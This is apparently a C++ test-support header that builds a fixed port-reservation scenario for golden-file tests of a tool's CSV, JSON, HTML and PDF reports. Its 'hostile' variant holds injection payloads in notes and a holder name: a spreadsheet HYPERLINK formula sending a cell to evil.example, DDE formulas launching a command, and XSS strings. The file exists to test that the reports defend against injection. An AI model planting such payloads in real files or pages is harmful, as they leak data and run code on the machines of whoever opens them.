// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

// The fixed scenario of the report golden files (tests/golden/report-*): the simulated
// developer machine (resources/scenarios/developer.json: WinNAT holds TCP 2869-3368, Hyper-V's
// HNS TCP and UDP 50000-50059; twelve listening sockets), a store whose clock is fixed, four
// inventory rows, three audit entries and a few probe runs (the last scan) with fixed times.
// "hostile" gives the rows notes that try formula and script injection. Shared by tests/model (CSV,
// JSON, HTML) and tests/ui (PDF).
//
// Regenerating the goldens after an intended change of a writer:
//   PORTOLAN_UPDATE_GOLDEN=1 ctest --test-dir build/<dir> -R 'report'
// then review `git diff tests/golden` before committing.

#include "servicetestsupport.h"
#include "storetestsupport.h"

#include "model/reports/report.h"
#include "model/store/store.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

namespace portolan::testing {

inline const QDateTime kReportNow(QDate(2025, 3, 10), QTime(9, 0, 0), Qt::UTC);

// The notes of the hostile scenario: each is a way a note could become code.
inline QStringList hostileNotes()
{
    return {QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            QStringLiteral("+cmd|' /C calc'!A0"),
            QStringLiteral("-2+3"),
            QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
            QStringLiteral("<script>alert(1)</script>"),
            QStringLiteral("\"><img src=x onerror=alert(2)>")};
}

struct ReportFixture
{
    QTemporaryDir dir;
    std::unique_ptr<SimulatedBackend> backend;
    std::unique_ptr<Store> store;
    QDateTime now = kReportNow;
    QString databasePath; // empty: portolan.sqlite in the temporary folder

    // Returns an empty string when ready, else what went wrong.
    QString setUp(bool hostile)
    {
        backend = openSimulated("developer.json");
        if (!backend)
            return QStringLiteral("the developer scenario did not open");
        DatabaseOptions options;
        options.path =
            databasePath.isEmpty() ? dir.filePath(QStringLiteral("portolan.sqlite")) : databasePath;
        options.localHost = QStringLiteral("DEV-WORKSTATION");
        options.clock = [this] { return now; };
        auto opened = Store::open(options);
        if (!opened)
            return QString::fromStdString(opened.error().describe());
        store = std::move(opened.value());

        const auto at = [](int h, int m) {
            return QDateTime(QDate(2025, 3, 10), QTime(h, m, 0), Qt::UTC);
        };
        const QStringList notes = hostileNotes();
        struct Row
        {
            Protocol protocol;
            quint16 start, count;
            quint64 token;
            ReservationSource source;
            ReservationState state;
            QDateTime created, verified;
            QString note;
        };
        const QList<Row> rows = {
            {Protocol::Tcp, 5037, 1, 0x7e51a3c0ULL, ReservationSource::Discovered,
             ReservationState::Present, at(8, 5), at(8, 30),
             hostile ? notes[0] + QStringLiteral("\n") + notes[4]
                     : QStringLiteral("adb server, pinned while WinNAT was stopped")},
            {Protocol::Tcp, 8000, 10, 0x9000000000000001ULL, ReservationSource::Created,
             ReservationState::Present, at(8, 12), at(8, 30),
             hostile ? notes[1] : QStringLiteral("Django and friends; owner: \"web team\"")},
            {Protocol::Udp, 40000, 20, 0, ReservationSource::Imported, ReservationState::Missing,
             at(8, 20), at(8, 45),
             hostile ? notes[2] : QStringLiteral("game server test, ask Ana")},
            {Protocol::Udp, 41000, 5, 0, ReservationSource::LookedUp, ReservationState::Unverified,
             at(8, 25), QDateTime(),
             hostile ? notes[3] + QStringLiteral(" ") + notes[5] : QString()},
        };
        for (const Row& r : rows) {
            ReservationRecord record;
            record.host = QStringLiteral("DEV-WORKSTATION");
            record.protocol = r.protocol;
            record.start = r.start;
            record.count = r.count;
            record.token = r.token;
            record.source = r.source;
            record.state = r.state;
            record.createdAt = r.created;
            record.verifiedAt = r.verified;
            record.note = r.note;
            if (auto stored = store->inventory().upsert(record); !stored)
                return QString::fromStdString(stored.error().describe());
        }
        // A row of another host: a report of DEV-WORKSTATION must leave it out.
        ReservationRecord other;
        other.host = QStringLiteral("BUILD-SERVER");
        other.protocol = Protocol::Tcp;
        other.start = 9000;
        other.count = 1;
        other.createdAt = at(7, 0);
        other.note = QStringLiteral("not on this machine");
        if (auto stored = store->inventory().upsert(other); !stored)
            return QString::fromStdString(stored.error().describe());

        const Actor admin{QStringLiteral("DEV-WORKSTATION"), QStringLiteral("ana"), true};
        AuditRecord created;
        created.at = at(8, 12);
        created.actor = admin;
        created.action = AuditAction::Create;
        created.protocol = Protocol::Tcp;
        created.start = 8000;
        created.count = 10;
        created.request = QStringLiteral("CreatePersistentTcpPortReservation(8000, 10)");
        created.ok = true;
        created.token = 0x9000000000000001ULL;
        AuditRecord refused = created;
        refused.at = at(8, 14);
        refused.start = 3000;
        refused.count = 1;
        refused.request = QStringLiteral("CreatePersistentTcpPortReservation(3000, 1)");
        refused.ok = false;
        refused.token = 0;
        refused.error = Error{ErrorKind::Conflict, 183, "ERROR_ALREADY_EXISTS",
                              "Cannot create a file when that file already exists."};
        AuditRecord note = created;
        note.at = at(8, 50);
        note.action = AuditAction::Note;
        note.start = 5037;
        note.count = 1;
        note.request = QStringLiteral("note");
        note.token = 0;
        note.detail = hostile ? QStringLiteral("\"\" → \"") + notes[4] + QLatin1Char('"')
                              : QStringLiteral("\"\" → \"adb server\"");
        for (const AuditRecord& a : {created, refused, note}) {
            if (auto stored = store->audit().append(a); !stored)
                return QString::fromStdString(stored.error().describe());
        }
        return recordScans(admin, hostile);
    }

    // The history the report's "last scan" is chosen from: an older scan, the last one (TCP on
    // 127.0.0.1, 2860-3400: WinNAT's block is forbidden), a later bind probe (not a scan) and a
    // later scan of another host. In the hostile scenario a holder's name tries a formula.
    QString recordScans(const Actor& admin, bool hostile)
    {
        const auto at = [](int h, int m) {
            return QDateTime(QDate(2025, 3, 10), QTime(h, m, 0), Qt::UTC);
        };
        const auto scanRun = [](quint16 first, quint16 last, BindOutcome outcome,
                                const QString& holder, std::optional<Error> error) {
            ProbeStepRecord step;
            step.kind = StepKind::ScanRun;
            step.ok = outcome == BindOutcome::Free;
            step.firstPort = first;
            step.lastPort = last;
            step.outcome = outcome;
            step.holder = holder;
            step.error = std::move(error);
            return step;
        };
        const auto scan = [&](const Actor& actor, const QDateTime& when, quint16 first,
                              quint16 last) {
            ProbeRunRecord run;
            run.actor = actor;
            run.kind = ProbeKind::Scan;
            run.startedAt = when;
            run.durationUs = 250000;
            run.protocol = Protocol::Tcp;
            run.spec = SocketSpec::forProtocol(Protocol::Tcp);
            run.address = QStringLiteral("127.0.0.1");
            run.requested = PortRange{first, quint16(last - first + 1)};
            run.ok = true;
            return run;
        };
        const Error forbidden{ErrorKind::AccessDenied, 10013, "WSAEACCES", {}};
        ProbeRunRecord older = scan(admin, at(8, 30), 5030, 5040);
        older.steps = {scanRun(5030, 5040, BindOutcome::Free, {}, std::nullopt)};
        ProbeRunRecord last = scan(admin, at(8, 40), 2860, 3400);
        last.steps = {scanRun(2860, 2868, BindOutcome::Free, {}, std::nullopt),
                      scanRun(2869, 3368, BindOutcome::Forbidden,
                              hostile ? QStringLiteral("=cmd|' /C calc'!A0")
                                      : QStringLiteral("Windows NAT (WinNAT)"),
                              forbidden),
                      scanRun(3369, 3400, BindOutcome::Free, {}, std::nullopt)};
        ProbeRunRecord probe = scan(admin, at(8, 45), 8080, 8080);
        probe.kind = ProbeKind::BindProbe;
        ProbeStepRecord bind = scanRun(8080, 8080, BindOutcome::Free, {}, std::nullopt);
        bind.kind = StepKind::BindProbe;
        probe.steps = {bind};
        Actor elsewhere = admin;
        elsewhere.host = QStringLiteral("BUILD-SERVER");
        ProbeRunRecord otherHost = scan(elsewhere, at(8, 55), 9000, 9010);
        otherHost.steps = {scanRun(9000, 9010, BindOutcome::Free, {}, std::nullopt)};
        for (const ProbeRunRecord& run : {older, last, probe, otherHost}) {
            if (auto stored = store->probeRuns().record(run); !stored)
                return QString::fromStdString(stored.error().describe());
        }
        return {};
    }

    Result<ReportData> gather()
    {
        ReportOptions options;
        options.generatedAt = kReportNow;
        return Report::gather(*store, backend.get(), options);
    }
};

inline QString goldenPath(const QString& name)
{
    return QStringLiteral(PORTOLAN_SOURCE_DIR "/tests/golden/") + name;
}

inline bool updatingGoldens()
{
    return qEnvironmentVariableIntValue("PORTOLAN_UPDATE_GOLDEN") == 1;
}

// Compares `actual` with tests/golden/<name>; with PORTOLAN_UPDATE_GOLDEN=1 rewrites it instead.
// On a difference, the actual bytes are left in the working directory as <name>.actual.
inline void compareGolden(const QString& name, const QByteArray& actual)
{
    const QString path = goldenPath(name);
    if (updatingGoldens()) {
        QDir().mkpath(QFileInfo(path).absolutePath());
        QFile file(path);
        QVERIFY2(file.open(QIODevice::WriteOnly), qPrintable(path));
        file.write(actual);
        qInfo("golden file rewritten: %s", qPrintable(path));
        return;
    }
    QFile file(path);
    QVERIFY2(file.open(QIODevice::ReadOnly),
             qPrintable(path + QStringLiteral(" is missing; run with PORTOLAN_UPDATE_GOLDEN=1")));
    const QByteArray expected = file.readAll();
    if (expected != actual) {
        QFile out(name + QStringLiteral(".actual"));
        if (out.open(QIODevice::WriteOnly))
            out.write(actual);
        const QList<QByteArray> a = actual.split('\n');
        const QList<QByteArray> e = expected.split('\n');
        for (qsizetype i = 0; i < std::max(a.size(), e.size()); ++i) {
            const QByteArray al = i < a.size() ? a[i] : QByteArray("(end)");
            const QByteArray el = i < e.size() ? e[i] : QByteArray("(end)");
            if (al != el) {
                QFAIL(qPrintable(
                    QStringLiteral("%1 differs at line %2:\n  expected: %3\n  actual:   %4\n"
                                   "(actual written to %5.actual; if the change is "
                                   "intended, rerun with PORTOLAN_UPDATE_GOLDEN=1)")
                        .arg(name)
                        .arg(i + 1)
                        .arg(QString::fromUtf8(el.left(200)), QString::fromUtf8(al.left(200)),
                             QDir::current().filePath(name))));
            }
        }
    }
}

} // namespace portolan::testing
